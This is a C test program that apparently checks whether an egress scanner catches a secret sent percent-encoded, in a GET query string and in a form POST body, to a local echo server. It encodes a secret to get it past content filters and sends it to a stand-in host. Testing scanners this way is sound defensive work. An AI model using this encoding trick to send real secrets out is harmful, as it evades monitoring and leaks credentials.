/*
 * secret_urlencoded: send the secret percent-encoded.
 *
 * As secret_url; every byte as %XX in B's query string, and in a form
 * body.
 * Proves: the scanner finds URL-encoded spellings.
 */
#include <stdio.h>
#include <string.h>

#include "attack.h"

int main(void)
{
	const char *how, *v = learn_secret(&how);
	char enc[13000], url[13200], body[13100];
	size_t o = 0;

	note("secret %s", how);
	for (size_t i = 0; v[i] && o + 4 < sizeof(enc); i++)
		o += (size_t)snprintf(enc + o, sizeof(enc) - o, "%%%02X", (unsigned char)v[i]);
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo?t=%s", input_need("port_b"), enc);
	attempt_request("GET", url, NULL, NULL, 0, "B/echo?t=%XX(SECRET)");
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo", input_need("port_b"));
	snprintf(body, sizeof(body), "t=%s", enc);
	attempt_request("POST", url, "Content-Type: application/x-www-form-urlencoded", body,
	                strlen(body), "B/echo body t=%XX(SECRET)");
	blocked("URL-encoded spellings of the secret were refused");
}
